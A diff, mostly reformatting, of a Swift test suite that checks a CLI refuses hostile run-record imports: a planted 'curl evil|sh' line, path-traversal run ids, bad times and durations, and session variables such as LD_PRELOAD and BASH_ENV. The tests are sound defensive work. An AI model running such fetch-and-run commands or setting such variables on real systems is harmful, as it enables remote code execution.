@@ -8,7 +8,9 @@ struct HostileImportTests {
     static var golden: String { (try? String(contentsOfFile: RecordsCommandTests.golden, encoding: .utf8)) ?? "" }
 
     /// Imports `text`; expects a refusal naming `reason` and no run in the records afterwards.
-    static func expectRefused(_ text: String, _ reason: String, sourceLocation: SourceLocation = #_sourceLocation) throws {
+    static func expectRefused(_ text: String, _ reason: String, sourceLocation: SourceLocation = #_sourceLocation)
+        throws
+    {
         let sandbox = try CLISandbox()
         try sandbox.write("hostile.json", text)
         let result = try sandbox.run(["import", "hostile.json"])
@@ -28,25 +30,42 @@ struct HostileImportTests {
 
     @Test("a revision whose text does not hash to its hash: code planted under the real file's hash")
     func plantedText() throws {
-        try Self.expectRefused(Self.golden.replacingOccurrences(of: "echo warming", with: "curl evil|sh"), "does not match its hash")
+        try Self.expectRefused(
+            Self.golden.replacingOccurrences(of: "echo warming", with: "curl evil|sh"), "does not match its hash")
     }
 
-    @Test("run ids that are not ULIDs", arguments: ["", "../../x", "01HFX0ABCDEFGHJKMNPQRSTVWX", "01hfx0abcdefghjkmnpqrstvwx0", "zzhfx0abcdefghjkmnpqrstvwx"])
+    @Test(
+        "run ids that are not ULIDs",
+        arguments: [
+            "", "../../x", "01HFX0ABCDEFGHJKMNPQRSTVWX", "01hfx0abcdefghjkmnpqrstvwx0", "zzhfx0abcdefghjkmnpqrstvwx",
+        ])
     func badIDs(id: String) throws {
-        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"id\":\"01hfx0abcdefghjkmnpqrstvwx\"", with: "\"id\":\"\(id)\""), "not a run id")
+        try Self.expectRefused(
+            Self.golden.replacingOccurrences(of: "\"id\":\"01hfx0abcdefghjkmnpqrstvwx\"", with: "\"id\":\"\(id)\""),
+            "not a run id")
     }
 
     @Test("impossible and implausible times")
     func badTimes() throws {
-        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"startedAt\":\"2026-11-27T09:00:00.000Z\"", with: "\"startedAt\":\"9999-99-99T99:99:99Z\""), "not an ISO 8601 UTC time")
-        try Self.expectRefused(Self.golden.replacingOccurrences(of: "\"time\":\"2026-11-27T09:00:03.000Z\"", with: "\"time\":\"2999-01-01T00:00:00.000Z\""), "not a plausible time")
+        try Self.expectRefused(
+            Self.golden.replacingOccurrences(
+                of: "\"startedAt\":\"2026-11-27T09:00:00.000Z\"", with: "\"startedAt\":\"9999-99-99T99:99:99Z\""),
+            "not an ISO 8601 UTC time")
+        try Self.expectRefused(
+            Self.golden.replacingOccurrences(
+                of: "\"time\":\"2026-11-27T09:00:03.000Z\"", with: "\"time\":\"2999-01-01T00:00:00.000Z\""),
+            "not a plausible time")
     }
 
     @Test("durations no step can take")
     func badDurations() throws {
         let golden = Self.golden
-        try Self.expectRefused(golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":1e300"), "durationSeconds")
-        try Self.expectRefused(golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":-5"), "durationSeconds")
+        try Self.expectRefused(
+            golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":1e300"),
+            "durationSeconds")
+        try Self.expectRefused(
+            golden.replacingOccurrences(of: "\"durationSeconds\":0.25", with: "\"durationSeconds\":-5"),
+            "durationSeconds")
     }
 
     @Test("an output beyond what a record keeps per stream")
@@ -59,11 +78,14 @@ struct HostileImportTests {
         try Self.expectRefused(golden, "16 MiB")
     }
 
-    @Test("a session that would run code in every later step", arguments: [
-        "BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND", "SHELLOPTS", "BASHOPTS", "PS4", "BASH_FUNC_ls%%",
-    ])
+    @Test(
+        "a session that would run code in every later step",
+        arguments: [
+            "BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND", "SHELLOPTS", "BASHOPTS", "PS4", "BASH_FUNC_ls%%",
+        ])
     func dangerousSession(name: String) throws {
-        let golden = Self.golden.replacingOccurrences(of: "\"session\":{\"exported\":{}", with: "\"session\":{\"exported\":{\"\(name)\":\"/tmp/x\"}")
+        let golden = Self.golden.replacingOccurrences(
+            of: "\"session\":{\"exported\":{}", with: "\"session\":{\"exported\":{\"\(name)\":\"/tmp/x\"}")
         #expect(golden != Self.golden)
         try Self.expectRefused(golden, "session sets \(name)")
     }
@@ -90,7 +112,9 @@ struct HostileImportTests {
         let third = try CLISandbox()
         try third.write("edited.json", edited)
         let refused = try third.run(["import", "edited.json"])
-        #expect(refused.status != 0 && refused.stderr.contains("does not match the hash the export gives"), "\(refused.stderr)")
+        #expect(
+            refused.status != 0 && refused.stderr.contains("does not match the hash the export gives"),
+            "\(refused.stderr)")
 
         var lines = export.stdout.split(separator: "\n", omittingEmptySubsequences: false)
         // Events are written one per line, each but the last ending with a comma.
@@ -105,7 +129,8 @@ struct HostileImportTests {
     @Test("amend --apply of an imported run writes only to a file named with --file")
     func amendWritesOnlyWhereTold() throws {
         let sandbox = try CLISandbox()
-        let relative = Self.golden.replacingOccurrences(of: "\"/srv/runbooks/fixture-backup.md\"", with: "\"victim.md\"")
+        let relative = Self.golden.replacingOccurrences(
+            of: "\"/srv/runbooks/fixture-backup.md\"", with: "\"victim.md\"")
         try sandbox.write("relative.json", relative)
         try sandbox.write("victim.md", "# Not a runbook of this run\n")
         #expect(try sandbox.run(["import", "relative.json"]).status == 0)
